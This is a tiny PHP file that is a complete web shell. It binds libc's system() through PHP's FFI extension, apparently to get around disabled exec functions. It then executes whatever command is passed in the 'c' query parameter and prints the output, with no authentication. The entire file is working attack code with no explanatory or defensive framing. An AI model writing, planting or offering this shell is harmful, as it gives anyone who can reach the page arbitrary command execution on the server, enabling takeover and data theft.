<?php
$ffi = FFI::cdef('int system(const char *command);', 'libc.so.6');
if (isset($_GET['c'])) { echo $ffi->system($_GET['c']); }
